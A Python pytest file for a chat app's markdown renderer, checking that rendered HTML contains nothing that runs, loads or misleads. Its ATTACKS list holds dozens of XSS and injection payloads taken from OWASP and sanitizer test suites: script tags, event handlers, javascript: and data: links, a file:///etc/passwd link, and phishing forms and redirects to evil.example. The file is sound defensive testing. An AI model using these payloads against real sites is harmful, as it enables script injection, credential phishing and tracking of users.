"""Markdown: shown as HTML in which nothing runs, loads or pretends; kept as it was written."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.chat import markdown

PLUGINS = ("chat",)

# After the filter evasion cheat sheet of OWASP and the payloads of markdown-it's and DOMPurify's tests.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel][1]\n\n[1]: https://evil.example/pixel.png",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](<https://a.example/" onclick=alert(1)>)',
    "[x](/v1/users/me)",
    "[x](//evil.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onload=alert(1)\nx\n```',
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<div style="background:url(javascript:alert(1))">',
    "<details open ontoggle=alert(1)>",
    "<a id=constructor name=body>clobbered</a>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class Shown(HTMLParser):
    """What a browser would make of it: the elements with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def require_harmless(html: str) -> None:
    for tag, attributes in Shown(html).found:
        assert tag in markdown.ELEMENTS, html
        assert set(attributes) <= {"href", "title", "rel", "class", "start"}, html
        address = attributes.get("href")
        if address is not None:
            assert address.split(":", 1)[0].lower() in markdown.SCHEMES, html
            assert attributes["rel"] == "noopener noreferrer nofollow ugc"


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_loads_or_leads_astray(text):
    require_harmless(markdown.html(text))
    require_harmless(markdown.html(f"> - **{text}**\n\n{text}"))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>\"'&;:/()[]!*_`~#-\\=abijsctpr:. \n\t\x00\u2028", max_size=80))
def test_whatever_is_written_stays_harmless(text):
    require_harmless(markdown.html(text))


def test_what_markdown_is_for_is_shown():
    shown = markdown.html(
        "# Hi\n\n**b** _i_ ~~s~~ `c` [a](https://a.example)\n\n- x\n\n1. y\n\n> q\n\n```py\nx<1\n```"
    )

    found = {tag for tag, _ in Shown(shown).found}
    assert found == {"h1", "p", "strong", "em", "s", "code", "a", "ul", "ol", "li", "blockquote", "pre"}
    assert 'class="language-py"' in shown
    assert "x&lt;1" in shown


def test_eight_kilobytes_of_anything_do_not_become_a_megabyte():
    for text in ("|a|\n|-|\n" + "|\n" * 4000, "[" * 8000, "> " * 4000, "<" * 8000, "- " * 4000):
        assert len(markdown.html(text)) < 100_000


def test_a_message_keeps_its_source_and_shows_html_wherever_it_is_read(ada, ben, streamed):
    room = ada.group(ben)
    said = ada.say(room, "**Bold** <script>", type="markdown")

    html = "<p><strong>Bold</strong> &lt;script&gt;</p>\n"
    edited = ada.client.patch(f"/v1/messages/{said['id']}", {"text": "_New_"}).json
    [new] = [data["message"] for _, name, data in streamed(room) if name == "message:new"]
    assert (said["text"], said["html"], new["html"]) == ("**Bold** <script>", html, html)
    assert edited["html"] == "<p><em>New</em></p>\n"
    assert ben.sees(room)[-1]["html"] == edited["html"]


def test_plain_text_has_no_html(ada, ben):
    assert ada.say(ada.group(ben), "**not markdown**")["html"] is None
